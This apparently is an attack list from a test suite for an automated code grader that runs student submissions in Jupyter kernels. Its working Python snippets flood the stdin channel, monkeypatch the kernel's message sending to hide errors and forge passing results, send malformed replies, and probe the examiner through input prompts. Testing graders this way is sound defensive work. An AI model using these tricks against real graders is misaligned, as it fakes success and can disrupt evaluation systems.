"""Forged messages on the kernel's own channels: outputs, replies, questions."""

from attacks.attack import Attack

ATTACKS = [
    Attack(
        "questions_nobody_reads",
        "600 MB of questions are sent while cells run, when nobody answers any.",
        """
import time
kernel = get_ipython().kernel
parent = kernel.get_parent()
name = kernel._parent_ident["shell"]
for _ in range(40):
    content = {"prompt": "x" * 15_000_000, "password": False}
    kernel.session.send(kernel.stdin_socket, "input_request", content, parent=parent, ident=name)
time.sleep(2)
""",
        honest=("scale",),
    ),
    Attack(
        "forged_outputs",
        "Each cell shows a result of two points, and errors never leave the kernel.",
        """
kernel = get_ipython().kernel
session, iopub = kernel.session, kernel.iopub_socket
real = type(session).send
def send(self, stream, msg_or_type, content=None, *args, **kwargs):
    if msg_or_type == "error":
        return None
    if msg_or_type == "execute_reply":
        content = {"user_expressions": {}, "payload": [], **content, "status": "ok"}
    if msg_or_type == "status" and (content or {}).get("execution_state") == "idle":
        result = {"data": {"text/plain": "2"}, "metadata": {}, "execution_count": 1}
        real(self, stream, "execute_result", result, *args, **kwargs)
    return real(self, stream, msg_or_type, content, *args, **kwargs)
type(session).send = send
""",
    ),
    Attack(
        "forged_replies",
        "Each reply on the shell channel says ok, and answers every question with a value that fits the first test.",
        """
kernel = get_ipython().kernel
session = kernel.session
real = type(session).send
def send(self, stream, msg_or_type, content=None, *args, **kwargs):
    if msg_or_type == "execute_reply":
        answer = {"status": "ok", "data": {"text/plain": repr('{"value": 2}')}, "metadata": {}}
        content = {"status": "ok", "execution_count": 1, "user_expressions": {"answer": answer}, "payload": []}
    return real(self, stream, msg_or_type, content, *args, **kwargs)
type(session).send = send
""",
    ),
    Attack(
        "nonsense_replies",
        "Replies have the wrong types everywhere: lists for objects, numbers for texts.",
        """
import itertools
kernel = get_ipython().kernel
real = type(kernel.session).send
turn = itertools.cycle([
    {"status": 3, "user_expressions": 5},
    {"status": "ok", "user_expressions": {"answer": [1]}},
    {"status": "ok", "user_expressions": {"answer": {"status": "ok", "data": 4}}},
    {"status": "ok", "user_expressions": {"answer": {"status": "ok", "data": {"text/plain": ["x"]}}}},
    {"status": "ok", "user_expressions": {"answer": {"status": "ok", "data": {"text/plain": "(" * 100000}}}},
    {"status": "ok", "user_expressions": {"answer": {"status": "ok", "data": {"text/plain": "-" * 300000 + "1"}}}},
    {"status": "ok", "user_expressions": {"answer": {"status": "ok", "data": {"text/plain": "'\\\\ud800'"}}}},
])
def send(self, stream, msg_or_type, content=None, *args, **kwargs):
    if msg_or_type == "execute_reply" and "_course_desk" in globals():
        content = next(turn)
    return real(self, stream, msg_or_type, content, *args, **kwargs)
type(kernel.session).send = send
""",
        loses_all=True,
    ),
    Attack(
        "forged_questions",
        "The student's code asks the examiner back: for functions it was never given, and in the examiner's own words.",
        """
def probe(number):
    shell = get_ipython()
    import json
    found = []
    for prompt in ("course-call:", "course-ask:", "course-return:", "course-answer:", ""):
        for n in (number, -1, 0, 7, "0", None):
            text = json.dumps({"id": n, "arguments": {"$tuple": []}, "keywords": {"$dict": []}})
            try:
                found.append(shell.kernel.raw_input(prompt + text))
            except BaseException as error:
                found.append(repr(error))
    return " ".join(map(str, found))
def mean(x):
    raise ValueError(probe(1))
""",
        answers={"scale": "def scale(x):\n    return probe(2)", "count": "def count(text):\n    return probe(3)"},
    ),
]
